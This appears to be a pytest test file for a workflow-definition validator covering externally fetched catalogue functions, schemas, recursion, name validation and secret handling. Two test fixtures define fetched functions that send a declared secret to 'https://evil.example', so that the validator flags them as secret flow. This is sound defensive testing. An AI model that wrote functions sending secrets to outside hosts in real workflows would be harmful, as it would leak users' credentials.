"""What a definition uses from elsewhere: what is wanted, and how it is written in."""

from typing import Any

import jsonschema_rs
import pytest

from foundation.json import JsonObject, JsonValue
from tests.definition.documents import with_tasks
from tests.shared_data import shared
from workflows.definition import (
    Finding,
    NotFetchedError,
    load_document,
    prepare,
    validate,
    wanted,
)
from workflows.definition.elsewhere import Fetched, Found, Origin
from workflows.definition.off import Off

CATALOG = "use: { catalogs: { global: { endpoint: 'https://catalog.example' } } }\n"
LOG = "log:1.0.0@global"
CALLS = with_tasks(f"- first: {{ call: '{LOG}', with: {{ message: hello }} }}", more=CATALOG)
SCHEMA = (
    "- a: { input: { schema: { resource: { endpoint: 'https://s.example/a.json' } } }, do: [] }"
)


def fetched(name: str, value: JsonValue, *, kind: Any = "function", trusted: bool = False) -> Found:
    origin = Origin(kind=kind, name=name, address=f"https://x.example/{name}", sha256="0" * 64)
    return {name: Fetched(value=value, origin=origin, trusted=trusted)}


def found_in(text: str, found: Found) -> list[Finding]:
    return validate(text, found=found)


def test_what_was_not_fetched_is_a_warning_for_who_checks_and_keeps_it_from_being_published() -> (
    None
):
    (found,) = validate(CALLS)
    assert (found.code, found.severity, found.pointer) == (
        "not-fetched",
        "warning",
        "/do/0/first/call",
    )
    with pytest.raises(NotFetchedError) as refused:
        prepare(CALLS)
    (finding,) = refused.value.findings
    assert (finding.code, finding.severity) == ("elsewhere", "error")
    (want,) = refused.value.wanted
    assert (want.name, want.version, want.endpoint) == ("log", "1.0.0", "https://catalog.example")


def test_the_frozen_definition_holds_the_function_and_is_one_of_the_language() -> None:
    prepared = prepare(CALLS, found=fetched(LOG, {"set": {"said": "${ .message }"}}))
    use: Any = prepared.document["use"]
    assert use["functions"] == {LOG: {"set": {"said": "${ .message }"}}}
    assert prepared.source == CALLS
    assert [each.name for each in prepared.origins] == [LOG]
    schema: Any = load_document((shared("data/ows") / "schema/workflow.yaml").read_text()).value
    assert jsonschema_rs.validator_for(schema, offline=True).is_valid(prepared.document)


def test_what_was_fetched_is_part_of_the_hash() -> None:
    one, other = (
        prepare(CALLS, found=fetched(LOG, {"set": {"a": value}})).hash for value in (1, 2)
    )
    assert one != other


def test_a_function_that_calls_a_function_wants_that_one_too() -> None:
    found = fetched(LOG, {"call": "line:2.0.0@global", "with": {"a": 1}})
    (want,) = wanted(CALLS, found=found)
    assert want.key == "line:2.0.0@global"
    both = {**found, **fetched("line:2.0.0@global", {"set": {"a": "${ .a }"}})}
    assert found_in(CALLS, both) == []


def test_a_fetched_function_cannot_take_the_place_of_one_that_the_author_declares() -> None:
    own = "line:2.0.0@global"
    text = CALLS.replace(
        "use: {", f"use: {{ functions: {{ '{own}': {{ set: {{ mine: true }} }} }},"
    )
    found = fetched(LOG, {"call": own})
    with_other = {**found, **fetched(own, {"set": {"mine": False}})}
    (finding,) = found_in(text, with_other)
    assert (finding.code, finding.pointer) == ("elsewhere", "/do/0/first/call")
    assert "Rename yours" in finding.message


def test_functions_that_call_each_other_in_a_circle_are_refused() -> None:
    found = {
        **fetched(LOG, {"call": "line:2.0.0@global"}),
        **fetched("line:2.0.0@global", {"call": LOG}),
    }
    assert "recursive-function" in [each.code for each in found_in(CALLS, found)]


def test_a_schema_from_elsewhere_takes_the_place_of_its_address() -> None:
    text = with_tasks(SCHEMA)
    (want,) = wanted(text)
    found = {want.key: next(iter(fetched("s", {"type": "object"}, kind="schema").values()))}
    document: Any = prepare(text, found=found).document
    assert document["do"][0]["a"]["input"]["schema"] == {"document": {"type": "object"}}


@pytest.mark.parametrize(
    "schema",
    [
        {"$ref": "https://other.example/b.json"},
        {"$ref": "b.json"},
        {"type": "objekt"},
        "no schema",
    ],
)
def test_a_schema_that_cannot_be_used_is_reported_where_it_is_asked_for(schema: JsonValue) -> None:
    text = with_tasks(SCHEMA)
    (want,) = wanted(text)
    found = {want.key: next(iter(fetched("s", schema, kind="schema").values()))}
    (finding,) = found_in(text, found)
    assert (finding.code, finding.pointer) == ("invalid-schema", "/do/0/a/input/schema/resource")
    assert "The schema 's' cannot be used" in finding.message


@pytest.mark.parametrize(
    ("function", "code", "message"),
    [
        ({"sett": {"a": 1}}, "task-kind", "cannot be used"),
        ({"set": {"a": "${ $nope }"}}, "unknown-variable", "(at /set/a)"),
        ({"call": "helper"}, "elsewhere", "calls 'helper'"),
        ({"call": "mine:1.0.0@default"}, "elsewhere", "Functions of other catalogues cannot"),
        ({"do": [], "timeout": "slow"}, "elsewhere", "'slow' in use.timeouts"),
        (
            {
                "call": "http",
                "with": {
                    "method": "post",
                    "endpoint": "https://evil.example",
                    "body": "${ $secrets.erp }",
                },
            },
            "secret-flow",
            "reads a secret of yours",
        ),
        (
            {
                "call": "http",
                "with": {
                    "method": "get",
                    "endpoint": {
                        "uri": "https://evil.example",
                        "authentication": {"bearer": {"use": "erp"}},
                    },
                },
            },
            "secret-flow",
            "reads a secret of yours",
        ),
    ],
)
def test_a_function_that_cannot_be_used_is_reported_at_its_call(
    function: JsonValue, code: str, message: str
) -> None:
    more = CATALOG.replace("use: {", "use: { secrets: [erp], functions: { helper: { do: [] } },")
    text = with_tasks(f"- first: {{ call: '{LOG}' }}", more=more)
    found = validate(text, off=Off({"programs": "Ask."}), found=fetched(LOG, function))
    assert {(each.code, each.pointer) for each in found} == {(code, "/do/0/first/call")}
    assert any(message in each.message for each in found), found


HTTP: JsonObject = {"call": "http", "with": {"method": "get", "endpoint": "https://a.example"}}
FAULTS: JsonValue = {
    "try": [{"a": HTTP}],
    "catch": {"then": "end"},
}
EVENTS = {"one": {"with": {"type": "a"}}}


@pytest.mark.parametrize(
    ("function", "what"),
    [
        ({"emit": {"event": {"with": {"type": "a", "source": "https://e.com"}}}}, "(emit)"),
        ({"listen": {"to": EVENTS}}, "(listen)"),
        ({"run": {"workflow": {"namespace": "a", "name": "b", "version": "1.0.0"}}}, "(run)"),
        ({"call": "mcp.tool", "with": {"server": "erp", "tool": "book"}}, "'mcp.tool'"),
        (
            {"call": "approval", "with": {"title": "a", "candidates": {"roles": ["operator"]}}},
            "'approval'",
        ),
        (
            {"call": "notify", "with": {"email": {"to": ["a@e.com"], "subject": "a", "text": "b"}}},
            "'notify'",
        ),
        ({"do": [{"inner": {"set": {"a": 1}, "export": {"as": "${ . }"}}}]}, "$context"),
        ({"do": [{"inner": {"set": {"a": 1}, "then": "end"}}]}, "then: end"),
        ({"do": [{"inner": {"switch": [{"a": {"then": "end"}}]}}]}, "then: end"),
        (FAULTS, "then: end"),
        ({"set": {"a": "${ $context.a }"}}, "$context"),
        ({"set": {"a": "${ [1] | map($workflow.input) }"}}, "$workflow"),
        *(
            ({**HTTP, "metadata": {"millwright": {name: value}}}, f"metadata.millwright.{name}")
            for name, value in {
                "taskQueue": "a",
                "local": True,
                "priority": 1,
                "fairnessKey": "a",
                "searchAttributes": {"MillwrightKey": "a"},
                "concurrency": {"limit": 1, "key": "a"},
                "rateLimit": {"limit": 1, "key": "a", "period": {"seconds": 1}},
                "compensate": [{"undo": {"set": {"a": 1}}}],
            }.items()
        ),
    ],
)
def test_a_function_from_elsewhere_does_nothing_in_the_name_of_who_calls_it(
    function: JsonValue, what: str
) -> None:
    found = found_in(CALLS, fetched(LOG, function))
    told = [each for each in found if each.code == "elsewhere"]
    assert [each.pointer for each in told] == ["/do/0/first/call"], found
    assert what in told[0].message
    own = CALLS.replace("@global", "@default")
    trusted = fetched("log:1.0.0@default", function, trusted=True)
    assert "elsewhere" not in {each.code for each in found_in(own, trusted)}


def test_a_function_from_elsewhere_may_compute_and_call_what_it_names() -> None:
    wants: JsonObject = {
        "timeout": {"seconds": 3},
        "summary": "a",
        "idempotencyKey": "${ $input.key }",
    }
    function: JsonValue = {
        "do": [
            {"each": {"for": {"each": "i", "in": "${ .all }"}, "do": [{"a": {"set": "${ $i }"}}]}},
            {"call": {**HTTP, "metadata": {"millwright": wants}}},
            {"choose": {"switch": [{"a": {"when": "${ .x }", "then": "exit"}}]}},
        ]
    }
    assert found_in(CALLS, fetched(LOG, function)) == []


def test_a_function_of_the_own_catalogue_may_read_a_secret_that_the_workflow_declares() -> None:
    call = "{ method: get, endpoint: 'https://e.com', headers: { X-Key: '${ $secrets.erp }' } }"
    function = load_document(f"call: http\nwith: {call}").value
    found = fetched("get:1.0.0@default", function, trusted=True)
    task = "- a: { call: 'get:1.0.0@default' }"
    assert validate(with_tasks(task, more="use: { secrets: [erp] }\n"), found=found) == []
    (finding,) = validate(with_tasks(task), found=found)
    assert (finding.code, finding.pointer) == ("unknown-reference", "/do/0/a/call")


def test_a_function_is_called_with_what_its_input_schema_takes() -> None:
    schema: JsonValue = {"type": "object", "properties": {"message": {"type": "integer"}}}
    function: JsonValue = {"input": {"schema": {"document": schema}}, "do": []}
    (finding,) = found_in(CALLS, fetched(LOG, function))
    assert (finding.code, finding.pointer) == ("function-arguments", "/do/0/first/with/message")


def test_what_is_declared_is_not_fetched() -> None:
    text = with_tasks(
        "- a: { call: 'log:1.0.0@global' }",
        more="use: { functions: { 'log:1.0.0@global': { do: [] } } }\n",
    )
    assert wanted(text) == []
    assert validate(text) == []


@pytest.mark.parametrize(
    ("call", "code", "message"),
    [
        ("log:1.0.0@globl", "unknown-reference", "Did you mean 'global'?"),
        ("log:1.0.0@zzz", "unknown-reference", "Declare it in use.catalogs"),
        ("log:1.0@global", "unknown-function", "'name:1.0.0@catalog'"),
        ("log@global", "unknown-function", "'name:1.0.0@catalog'"),
        ("log:1.0.0", "unknown-function", "'name:1.0.0@catalog'"),
        ("../x:1.0.0@global", "unknown-function", "'name:1.0.0@catalog'"),
    ],
)
def test_a_name_that_names_nothing_is_refused(call: str, code: str, message: str) -> None:
    (found,) = validate(with_tasks(f"- a: {{ call: '{call}' }}", more=CATALOG))
    assert (found.code, found.pointer) == (code, "/do/0/a/call")
    assert message in found.message


@pytest.mark.parametrize(
    "endpoint",
    ["${ .where }", "https://${ .host }/a", "https://e.com/{name}", "ftp://e.com", "catalog"],
)
def test_an_address_that_is_read_at_publishing_is_written_out(endpoint: str) -> None:
    more = f"use: {{ catalogs: {{ global: {{ endpoint: '{endpoint}' }} }} }}\n"
    found = validate(with_tasks("- a: { do: [] }", more=more))
    assert ("uri", "/use/catalogs/global/endpoint") in [(each.code, each.pointer) for each in found]


def test_a_password_of_a_catalogue_is_not_written_out() -> None:
    login = "{ basic: { username: me, password: '012345' } }"
    more = CATALOG.replace(
        "'https://catalog.example'",
        f"{{ uri: 'https://catalog.example', authentication: {login} }}",
    )
    found = validate(with_tasks("- a: { do: [] }", more=more))
    assert [each.code for each in found] == ["literal-secret"]


def test_the_login_of_a_catalogue_reads_secrets_that_are_declared_and_nothing_else() -> None:
    login = "{ bearer: { token: '${ $secrets.git }' } }"
    more = CATALOG.replace(
        "'https://catalog.example'",
        f"{{ uri: 'https://catalog.example', authentication: {login} }}",
    )
    (found,) = validate(with_tasks("- a: { do: [] }", more=more))
    assert found.code == "unknown-reference"
    declared = more.replace("use: {", "use: { secrets: [git],")
    assert validate(with_tasks("- a: { do: [] }", more=declared)) == []
    context = declared.replace("$secrets.git", "$context.git")
    assert [each.code for each in validate(with_tasks("- a: { do: [] }", more=context))] == [
        "unknown-variable"
    ]


def test_a_definition_does_not_become_larger_than_one_may_be() -> None:
    big: JsonValue = {"set": {str(number): "x" * 1000 for number in range(300)}}
    assert "too-large" in [each.code for each in found_in(CALLS, fetched(LOG, big))]
